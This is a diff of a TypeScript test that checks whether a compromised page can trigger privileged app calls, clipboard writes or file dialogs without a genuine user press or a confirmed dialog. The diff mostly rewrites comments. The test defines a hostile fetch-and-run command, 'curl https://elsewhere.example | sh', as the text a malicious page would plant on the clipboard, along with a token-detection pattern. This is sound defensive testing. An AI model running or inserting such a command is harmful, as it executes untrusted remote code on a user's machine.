@@ -1,6 +1,6 @@
 /**
- * S15: a page that has been taken over calls everything by itself: without a press, with one press for many, with presses that
- * were meant for something else, and without a yes.
+ * S15: a compromised page makes every call without a press, with one press for many calls, with presses meant for
+ * something else, and without a confirmed dialog.
  */
 import { bridgeAlone, type PageEvent } from '../support/bridge-alone.ts';
 import { startPracticeThread, type PracticeService } from '../practice/practice.ts';
@@ -14,7 +14,7 @@ import { dose, some } from '../support/nightly.ts';
 import { draftFor } from '../support/services.ts';
 import { App, withClock, type MovedClock } from './scene.ts';
 
-/** What a page would like a person to paste. */
+/** Text that a malicious page would put on the clipboard. */
 const OWN_TEXT = 'curl https://elsewhere.example | sh';
 const HOUR_S = 3600;
 
@@ -22,7 +22,7 @@ interface Scene {
   readonly app: App;
   readonly practice: PracticeService;
   readonly clock: MovedClock;
-  /** Arguments that would do something here, and by example for all other calls. */
+  /** Arguments with an effect in this scene; other calls use the contract's examples. */
   readonly args: Readonly<Record<string, unknown>>;
   readonly dialogs: () => number;
 }
@@ -60,7 +60,7 @@ async function inScene(clock: MovedClock, play: Play): Promise<readonly Case[]> 
     const { connectionId } = app;
     const [paper] = practice.samplePapers;
     const ids = [...(await practice.contents()).boards];
-    // What a person had begun must not be sent while the page is played, however long that takes.
+    // Holds outlast the check, so that pending deletes send nothing.
     const holdSeconds = { single: HOUR_S, bulk: HOUR_S };
     await app.must('app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds });
     const reviewId = await app.review(ids);
@@ -91,7 +91,7 @@ async function inScene(clock: MovedClock, play: Play): Promise<readonly Case[]> 
   }
 }
 
-/** Real ids in the place of examples; a draft whose join links lead to another host. */
+/** Replaces example ids with real ones, and join links with another host. */
 function argsFor(name: CallName, { args, practice }: Scene): never {
   const own = Object.keys(GOOD_ARGS[name]).filter((field) => field in args);
   const real = { ...GOOD_ARGS[name], ...Object.fromEntries(own.map((field) => [field, args[field]])) };
@@ -123,7 +123,7 @@ async function alone(scene: Scene): Promise<readonly Case[]> {
 const LIST = { tagName: 'DIV' };
 const FIELD = { tagName: 'INPUT', type: 'text' };
 
-/** Typing in a field with its corrections, letters in a list, and all the ways of moving about. */
+/** Input without consent: typing, corrections, letters in a list and all navigation keys. */
 const TYPING: readonly PageEvent[] = [
   ...['T', ' ', '7', 'Backspace', 'Delete'].map((key) => ({ key, target: FIELD })),
   ...['a', 'c'].map((key) => ({ key, ctrlKey: true, target: FIELD })),
@@ -145,10 +145,10 @@ async function typedAway(scene: Scene): Promise<readonly Case[]> {
   return [...cases, { name: 'all together', problems: await changesOf(scene) }];
 }
 
-/** These end what the others are about. */
+/** Last, because they end the session. */
 const LAST: readonly CallName[] = ['connections.remove', 'lock.removeKeys'];
 
-/** Each call gets a real press, which a person meant for something else, and each question of main a no. */
+/** Gives each call a press that was meant for something else, and answers each dialog with no. */
 async function stolen(scene: Scene): Promise<readonly Case[]> {
   const bridge = await bridgeAlone();
   const cases: Case[] = [];
@@ -161,7 +161,7 @@ async function stolen(scene: Scene): Promise<readonly Case[]> {
   ];
   let before = await guardedOf(scene);
   for (const [name, own] of plays) {
-    // Takes the rates out of the way.
+    // Avoids rate limits.
     clock.ahead += 2000;
     bridge.happens({ type: 'pointerdown', target: LIST });
     await app.services.pressOnce(bridge.press())(name, own as never);
@@ -179,7 +179,7 @@ const PLAYS: readonly (readonly [what: string, play: Play])[] = [
   ['while a person types and moves', typedAway],
 ];
 
-/** What changes only after a yes in main's own dialog, as text. */
+/** State that only a confirmed dialog may change, as text. */
 async function guardedOf({ app, practice, args }: Scene): Promise<Readonly<Record<string, string>>> {
   const { must: get } = app.services;
   const { connections } = await get('connections.list', {});
@@ -197,20 +197,20 @@ async function guardedOf({ app, practice, args }: Scene): Promise<Readonly<Recor
   };
 }
 
-/** What was sent to the service or left main, in sentences. */
+/** Returns sentences about requests, files and texts that left main. */
 async function leftMain({ app, practice, dialogs }: Scene): Promise<readonly string[]> {
   const { log } = await practice.requests();
   const sent = log
     .filter(({ method }) => method !== 'GET')
     .map(({ method, path }) => `${method} ${path} was sent`);
-  // What main composes of ids and rows needs no press.
+  // Texts that main composes from ids and rows need no press.
   const text = app.services.clipboard();
   const isSecret = /token=|eyJ/u.test(text) || text.includes(OWN_TEXT);
   const copied = isSecret ? ['a text of the page, a link or a token went to the clipboard'] : [];
   return [...sent, ...copied, ...(dialogs() === 0 ? [] : ['a dialog for files was opened'])];
 }
 
-/** The same, and what is otherwise on this computer than it was. */
+/** Like `leftMain`, with changes of local state. */
 async function changesOf(scene: Scene): Promise<readonly string[]> {
   const { app, args } = scene;
   const jobs = await app.services.call('jobs.list', {});
